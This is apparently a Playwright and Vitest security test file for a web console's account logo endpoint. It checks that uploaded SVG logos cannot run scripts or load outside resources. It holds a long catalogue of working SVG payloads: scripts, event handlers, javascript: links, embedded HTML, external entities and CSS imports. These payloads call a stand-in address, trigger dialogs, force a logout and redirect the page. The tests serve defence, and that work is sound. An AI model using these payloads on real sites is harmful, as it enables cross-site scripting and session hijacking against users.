import { randomUUID } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { closePage } from '../support/browser.js';
import { callApi, type OwnedConsole, startOwnedConsole } from '../support/console.js';
import { urlOf } from '../support/logos.js';

/** What a hostile drawing would reach: a server elsewhere, which counts what arrives. */
let elsewhere: Server;
let plain = '';
let address: string;
let reached: string[];
let world: OwnedConsole;
let page: Page;
let dialogs: string[];

beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    if (request.url === '/plain.svg')
      return void response.writeHead(200, { 'Content-Type': 'image/svg+xml' }).end(plain);
    if (request.url !== '/favicon.ico') reached.push(request.url!);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
  }).listen(0, '127.0.0.1');
  await once(elsewhere, 'listening');
  address = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  world = await startOwnedConsole();
});
afterAll(async () => {
  await world.close();
  elsewhere.closeAllConnections();
  elsewhere.close();
});
beforeEach(async () => {
  [reached, dialogs] = [[], []];
  page = await world.context.newPage();
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss().catch(() => undefined);
  });
  return () => closePage(page);
});

/** At an address that no cache knows. */
const newAddress = () => `${world.url}/v1/accounts/${world.account}/logo?v=${randomUUID()}`;
const setLogo = (drawing: string) =>
  callApi(world, 'PATCH', `/v1/accounts/${world.account}`, {
    brand: { name: 'Northwind', logo: urlOf(drawing) },
  });

/** A green square of 40 pixels, and something hostile on it. */
const svg = (inner: string, head = '', attributes = '') =>
  `${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" ` +
  `${attributes}><rect id="seen" width="40" height="40" style="fill:#008000"/>${inner}</svg>`;

/** Says by a request, a dialog and the title that it ran. */
const attack = (name: string) =>
  `fetch('${'ADDRESS'}/${name}');new Image().src='${'ADDRESS'}/${name}';alert('${name}');document.title='${name}';` +
  `fetch('/v1/auth/logout',{method:'POST'});top.location='${'ADDRESS'}/${name}'`;
const html = (inner: string) =>
  `<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml">${inner}</body></foreignObject>`;
const inner = (drawing: string) => `data:image/svg+xml;base64,${Buffer.from(drawing).toString('base64')}`;

const HOSTILE: [string, string][] = [
  ['a script', svg(`<script>${attack('script')}</script>`)],
  ['a script in CDATA', svg(`<script><![CDATA[${attack('cdata')}]]></script>`)],
  ['a script from elsewhere', svg('<script href="ADDRESS/script.js"/><script xlink:href="ADDRESS/old.js"/>')],
  ['a script from data', svg(`<script href="data:text/javascript,${encodeURIComponent(attack('data'))}"/>`)],
  ['a script of HTML', svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${attack('html')}</h:script>`)],
  ['an event handler', svg('', '', `onload="${attack('onload')}"`)],
  [
    'event handlers of parts',
    svg(
      `<image href="x:" onerror="${attack('error')}"/><set onbegin="${attack('begin')}" attributeName="x" to="1"/>`,
    ),
  ],
  [
    'a click',
    svg(
      `<a href="javascript:${encodeURIComponent(attack('click'))}"><rect width="40" height="40" onclick="${attack('onclick')}"/></a>`,
    ),
  ],
  [
    'an animated link',
    svg(
      `<a><animate attributeName="href" values="javascript:${encodeURIComponent(attack('animated'))}" dur="1s" repeatCount="indefinite"/><rect width="40" height="40"/></a>`,
    ),
  ],
  [
    'pictures from elsewhere',
    svg(
      '<image href="ADDRESS/image.png" width="9" height="9"/><image xlink:href="ADDRESS/old.png" width="9" height="9"/>',
    ),
  ],
  ['a drawing from elsewhere', svg('<use href="ADDRESS/use.svg#a"/>')],
  [
    'a filter from elsewhere',
    svg(
      '<filter id="f"><feImage href="ADDRESS/filter.png"/></filter><rect filter="url(#f)" width="9" height="9"/>',
    ),
  ],
  [
    'fills from elsewhere',
    svg(
      '<rect width="9" height="9" fill="url(ADDRESS/fill.svg#a)" mask="url(ADDRESS/mask.svg#a)" style="cursor:url(ADDRESS/cursor.png),auto"/>',
    ),
  ],
  [
    'a nested SVG as data',
    svg(
      `<image width="9" height="9" href="${inner(svg(`<script>${attack('nested')}</script><image href="ADDRESS/nested.png"/>`))}"/>`,
    ),
  ],
  ['a used SVG as data', svg(`<use href="${inner(svg(`<script>${attack('used')}</script>`))}#seen"/>`)],
  [
    'an imported style sheet',
    svg('<style>@import "ADDRESS/import.css"; @import url(ADDRESS/url.css);</style>'),
  ],
  [
    'a font',
    svg(
      '<style>@font-face{font-family:f;src:url(ADDRESS/font.woff2)} text{font-family:f}</style><text y="9">text</text>',
    ),
  ],
  [
    'a background',
    svg(
      '<style>svg{background:url(ADDRESS/background.png);background-image:image-set("ADDRESS/set.png" 1x)}</style>',
    ),
  ],
  [
    'imports in data',
    svg(
      `<style>@import url("data:text/css,@import url(ADDRESS/data.css);svg{background:url(ADDRESS/data.png)}");</style>`,
    ),
  ],
  [
    'a style sheet of the document',
    svg(
      '',
      '<?xml-stylesheet href="ADDRESS/sheet.css"?><?xml-stylesheet type="text/xsl" href="ADDRESS/sheet.xsl"?>',
    ),
  ],
  [
    'a link to a style sheet',
    svg('<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="ADDRESS/link.css"/>'),
  ],
  [
    'an external entity',
    svg(
      '<text>&x;</text>',
      '<!DOCTYPE svg [<!ENTITY x SYSTEM "ADDRESS/entity"><!ENTITY % d SYSTEM "ADDRESS/dtd"> %d;]>',
    ),
  ],
  [
    'HTML',
    svg(
      html(
        `<img src="ADDRESS/img.png" onerror="${attack('img')}"/><iframe src="ADDRESS/frame"></iframe><object data="ADDRESS/object"></object><video src="ADDRESS/video"/><audio src="ADDRESS/audio" autoplay="autoplay"/>`,
      ),
    ),
  ],
  [
    'frames of scripts',
    svg(
      html(
        `<iframe src="javascript:${encodeURIComponent(attack('frame'))}"/><iframe srcdoc="&lt;script&gt;${attack('srcdoc')}&lt;/script&gt;"/>`,
      ),
    ),
  ],
  [
    'a form',
    svg(
      html(
        `<form action="ADDRESS/form"><input name="a" autofocus="autofocus" onfocus="${attack('focus')}"/><button>Send</button></form>`,
      ),
    ),
  ],
  ['a refresh', svg(html('<meta http-equiv="refresh" content="0;url=ADDRESS/refresh"/>'))],
  ['a base', svg('<h:base xmlns:h="http://www.w3.org/1999/xhtml" href="ADDRESS/"/><image href="base.png"/>')],
];

/** What Chromium does not do anyway. */
const NEVER = new Set(['a nested SVG as data', 'a used SVG as data', 'an external entity']);

const settled = async () => {
  await page.waitForLoadState('load');
  await page.waitForTimeout(300);
};

it.each(HOSTILE)('neither as a picture nor as a page does a logo run or load %s', async (_, drawing) => {
  await setLogo(drawing.replaceAll('ADDRESS', address));

  await page.goto(`${world.url}/app/settings`);
  const width = await page.evaluate<number>(
    `new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve(image.naturalWidth);
      image.onerror = () => resolve(0);
      image.src = '${newAddress()}';
      document.body.append(image);
    })`,
  );
  await settled();
  expect([width, reached, dialogs]).toEqual([40, [], []]);

  const logo = newAddress();
  await page.goto(logo);
  await settled();
  await page.mouse.click(20, 20);
  await settled();
  expect(page.url()).toBe(logo);
  expect([reached, dialogs, await page.title()]).toEqual([[], [], '']);
  await callApi(world, 'GET', '/v1/auth/me');
});

it('draws inline styles as a page too', async () => {
  await setLogo(svg('<style>#seen{stroke:#ff0000}</style>'));
  await page.goto(newAddress());
  const style = "getComputedStyle(document.querySelector('#seen'))";
  expect(await page.evaluate(`[${style}.fill, ${style}.stroke]`)).toEqual([
    'rgb(0, 128, 0)',
    'rgb(255, 0, 0)',
  ]);
  expect(await page.evaluate('origin')).toBe('null');
});

it.each(HOSTILE.filter(([name]) => !NEVER.has(name)))(
  'without these headers a logo runs or loads %s',
  async (_, drawing) => {
    plain = drawing.replaceAll('ADDRESS', address);
    // Its scripts leave the page while it loads.
    await page.goto(`${address}/plain.svg`, { waitUntil: 'commit' });
    await page.waitForTimeout(300);
    if (reached.length + dialogs.length === 0) await page.mouse.click(20, 20);
    await expect.poll(() => reached.length + dialogs.length).toBeGreaterThan(0);
  },
);
